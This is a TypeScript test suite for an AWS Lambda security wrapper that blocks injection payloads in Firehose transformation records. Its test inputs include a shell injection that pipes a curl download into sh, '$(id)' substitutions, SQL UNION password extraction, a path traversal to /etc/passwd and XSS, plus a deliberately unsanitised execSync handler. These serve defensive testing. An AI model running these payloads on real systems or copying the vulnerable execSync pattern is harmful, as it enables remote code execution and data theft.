import t from 'tap';
import { execSync } from 'node:child_process';
import type { Context, FirehoseTransformationEvent } from 'aws-lambda';
import { protect, RequestBlockedError, type SecurityEvent } from '../../../adapters/aws-lambda/index';
import { normalize } from '../../../adapters/aws-lambda/normalize';
import { lambdaContext } from '../../helpers/lambda-events';
import { ATTACKS, BENIGN } from '../../helpers/tables';
import { b64, firehose, upperCaseTransform } from './events';

type Any = any;

function transformer(answer: (e: FirehoseTransformationEvent) => unknown = upperCaseTransform) {
  const calls: FirehoseTransformationEvent[] = [];
  const handler = async (event: FirehoseTransformationEvent, _context: Context) => {
    calls.push(event);
    return answer(event);
  };
  return { calls, handler };
}

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

const ctx = () => lambdaContext({ functionName: 'orders-transform' });
const decoded = (data: string | undefined) => Buffer.from(data ?? '', 'base64').toString('utf8');

t.test('Firehose transformation events are recognized and answered per record', async (t) => {
  const n = normalize(firehose([{ data: '{"a":1}', recordId: 'r1' }, { data: 'x', recordId: 'r2', partitionKey: 'customer-7' }]));
  t.equal(n.kind, 'batch');
  t.equal(n.trigger, 'firehose');
  if (n.kind !== 'batch') return;
  t.equal(n.answer, 'firehose');
  t.same(
    n.records.map((r) => r.id),
    ['r1', 'r2'],
  );
  t.same(
    n.records[1]!.request.sources.map((s) => s.path),
    ['records[1].data', 'records[1].kinesisRecordMetadata.partitionKey'],
  );
});

t.test('Firehose: benign records pass; the handler gets the same event and its answer comes back as is', async (t) => {
  const { calls, handler } = transformer();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  for (const text of BENIGN) {
    const event = firehose([{ data: JSON.stringify({ note: text }) }, { data: text, partitionKey: text }]);
    const snapshot = JSON.stringify(event);
    const res: Any = await wrapped(event, ctx());
    t.equal(calls[calls.length - 1], event, `"${text}": the very same event`);
    t.equal(JSON.stringify(event), snapshot, 'not modified');
    t.same(
      res.records.map((r: Any) => [r.result, decoded(r.data)]),
      [
        ['Ok', JSON.stringify({ note: text }).toUpperCase()],
        ['Ok', text.toUpperCase()],
      ],
    );
  }
  t.equal(lines.length, 0);
});

t.test('Firehose: a blocked record is answered ProcessingFailed with its original data; the handler transforms the rest', async (t) => {
  for (const a of ATTACKS) {
    const { calls, handler } = transformer();
    const { lines, log } = logs();
    const wrapped = protect(handler, { log });
    const event = firehose([
      { data: JSON.stringify({ sku: 'BK-1', note: 'first' }), recordId: 'r1' },
      { data: JSON.stringify({ sku: 'BK-2', note: a.payload }), recordId: 'r2' },
      { data: 'third, plain text', recordId: 'r3' },
    ]);
    const res: Any = await wrapped(event, ctx());
    t.same(
      calls[0]!.records.map((r) => r.recordId),
      ['r1', 'r3'],
      `${a.class}: ${a.payload}: the handler got the allowed records only`,
    );
    t.same(
      res.records.map((r: Any) => [r.recordId, r.result]),
      [
        ['r1', 'Ok'],
        ['r2', 'ProcessingFailed'],
        ['r3', 'Ok'],
      ],
      'every recordId answered, in the batch order',
    );
    t.equal(res.records[1].data, event.records[1]!.data, 'the original data, untransformed, for the error output');
    t.equal(decoded(res.records[2].data), 'THIRD, PLAIN TEXT', "the handler's transformation of the others");
    t.equal(lines[0]?.trigger, 'firehose');
    t.equal(lines[0]?.where?.startsWith('records[1].data'), true, String(lines[0]?.where));
  }
});

t.test("Firehose: the handler's own entries and fields are kept untouched", async (t) => {
  const own = { recordId: 'r1', result: 'Dropped' as const };
  const { handler } = transformer((e) => ({
    records: [...e.records.map((r) => (r.recordId === 'r1' ? own : { recordId: r.recordId, result: 'Ok', data: r.data, metadata: { partitionKeys: { day: '2024-05-01' } } }))].reverse(),
    extra: 'kept',
  }));
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  const event = firehose([
    { data: 'one', recordId: 'r1' },
    { data: "name=x' UNION SELECT password FROM users --", recordId: 'r2' },
    { data: 'three', recordId: 'r3' },
    { data: 'report.csv; curl http://x | sh', recordId: 'r4' },
  ]);
  const res: Any = await wrapped(event, ctx());
  t.equal(res.extra, 'kept');
  t.equal(res.records.find((r: Any) => r.recordId === 'r1'), own, 'same object');
  t.same(res.records.find((r: Any) => r.recordId === 'r3').metadata, { partitionKeys: { day: '2024-05-01' } });
  t.same(
    res.records.map((r: Any) => `${r.recordId}:${r.result}`),
    ['r1:Dropped', 'r2:ProcessingFailed', 'r3:Ok', 'r4:ProcessingFailed'],
  );
  t.same(
    lines.map((l) => l.where),
    ['records[1].data', 'records[3].data'],
  );
});

t.test('Firehose: exact paths for a shell command in base64 text and SQL in base64 JSON', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(transformer().handler, { log });
  await wrapped(firehose([{ data: 'ok' }, { data: 'report.csv; curl http://x | sh' }]), ctx());
  await wrapped(firehose([{ data: JSON.stringify({ user: { name: "' UNION SELECT password FROM users --" } }) }]), ctx());
  await wrapped(firehose([{ data: 'fine', partitionKey: '../../../../etc/passwd' }]), ctx());
  t.same(
    lines.map((l) => [l.where, l.class]),
    [
      ['records[1].data', 'shell'],
      ['records[0].data.user.name', 'sqli'],
      ['records[0].kinesisRecordMetadata.partitionKey', 'path-traversal'],
    ],
  );
});

t.test('Firehose: a batch that is all blocked never calls the handler', async (t) => {
  const { calls, handler } = transformer();
  const wrapped = protect(handler, { log: false });
  const event = firehose([{ data: '$(id)', recordId: 'a' }, { data: '<script>alert(1)</script>', recordId: 'b' }]);
  const res: Any = await wrapped(event, ctx());
  t.equal(calls.length, 0);
  t.same(res, {
    records: [
      { recordId: 'a', result: 'ProcessingFailed', data: event.records[0]!.data },
      { recordId: 'b', result: 'ProcessingFailed', data: event.records[1]!.data },
    ],
  });
});

t.test('Firehose: monitor mode passes every record and keeps the answer as is', async (t) => {
  const { calls, handler } = transformer();
  const { lines, log } = logs();
  const wrapped = protect(handler, { mode: 'monitor', log });
  const event = firehose([{ data: 'ok' }, { data: '; curl http://x | sh' }]);
  const res: Any = await wrapped(event, ctx());
  t.equal(calls[0], event, 'the whole batch');
  t.same(
    res.records.map((r: Any) => r.result),
    ['Ok', 'Ok'],
  );
  t.equal(lines.length, 1);
  t.equal(lines[0]?.action, 'monitor');
  t.equal(lines[0]?.trigger, 'firehose');
});

t.test('Firehose: malformed data never crashes the wrapper and is still inspected', async (t) => {
  const { calls, handler } = transformer((e) => ({ records: e.records.map((r: Any) => ({ recordId: r?.recordId, result: 'Ok', data: r?.data })) }));
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  const res: Any = await wrapped(
    firehose([
      { rawData: '%%% not base64 %%%', recordId: 'bad64' },
      { data: '{"truncated": ', recordId: 'notjson' },
      { rawData: Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0xff, 0x00]).toString('base64'), recordId: 'binary' },
      { rawData: 'a; curl http://x | sh', recordId: 'bad64attack' },
    ]),
    ctx(),
  );
  t.same(
    res.records.map((r: Any) => `${r.recordId}:${r.result}`),
    ['bad64:Ok', 'notjson:Ok', 'binary:Ok', 'bad64attack:ProcessingFailed'],
  );
  t.same(
    calls[0]!.records.map((r) => r.recordId),
    ['bad64', 'notjson', 'binary'],
  );
  t.equal(lines.filter((l) => l.action === 'error').length, 0);
  // Odd shapes: records that are not objects, no recordId, no data.
  const odd: Any = firehose([{ data: 'ok' }]);
  odd.records.push(null, { recordId: 'nodata' }, 'str');
  const r2: Any = await wrapped(odd, ctx());
  t.equal(r2.records.length, 4, 'the handler answered for the odd records it got');
});

t.test('Firehose: a handler answer without records still reports the blocked ones', async (t) => {
  const wrapped = protect(async () => undefined, { log: false });
  const res: Any = await wrapped(firehose([{ data: 'ok', recordId: 'a' }, { data: '$(id)', recordId: 'b' }]) as Any, ctx());
  t.same(
    res.records.map((r: Any) => `${r.recordId}:${r.result}`),
    ['b:ProcessingFailed'],
  );
});

t.test('Firehose: handler errors propagate unchanged', async (t) => {
  const boom = new Error('transform failed');
  const wrapped = protect(
    async () => {
      throw boom;
    },
    { log: false },
  );
  await t.rejects(wrapped(firehose([{ data: 'ok' }]) as Any, ctx()), boom);
  await t.rejects(wrapped(firehose([{ data: 'ok' }, { data: '$(id)' }]) as Any, ctx()), boom, 'also with a blocked record');
  t.notOk(boom instanceof RequestBlockedError);
});

t.test('Firehose: a record whose transformation a sink stopped is answered ProcessingFailed in place of the handler entry', async (t) => {
  const { lines, log } = logs();
  const transformed: string[] = [];
  // The handler shells out per record and handles its own errors, as a careful one does.
  const handler = async (event: FirehoseTransformationEvent) => ({
    records: event.records.map((r) => {
      const text = Buffer.from(r.data, 'base64').toString('utf8');
      try {
        transformed.push(execSync(`printf %s '${text}'`, { stdio: ['ignore', 'pipe', 'ignore'] }).toString());
        return { recordId: r.recordId, result: 'Ok' as const, data: b64(text.toUpperCase()) };
      } catch {
        return { recordId: r.recordId, result: 'Ok' as const, data: r.data };
      }
    }),
  });
  // The input detector for shell is off: the sink does the work.
  const wrapped = protect(handler, { log, detectors: { shell: false } });
  const event = firehose([
    { data: 'alpha', recordId: 'r1' },
    { data: "beta'; id; echo '", recordId: 'r2' },
    { data: 'gamma', recordId: 'r3' },
  ]);
  const res: Any = await wrapped(event, ctx());
  t.same(
    res.records.map((r: Any) => `${r.recordId}:${r.result}`),
    ['r1:Ok', 'r2:ProcessingFailed', 'r3:Ok'],
  );
  t.equal(res.records[1].data, event.records[1]!.data, 'the original data');
  t.same(transformed, ['alpha', 'gamma'], 'the injected command never ran');
  t.equal(lines[0]?.rule, 'sink.shell');
  t.equal(lines[0]?.where, 'records[1].data');
});
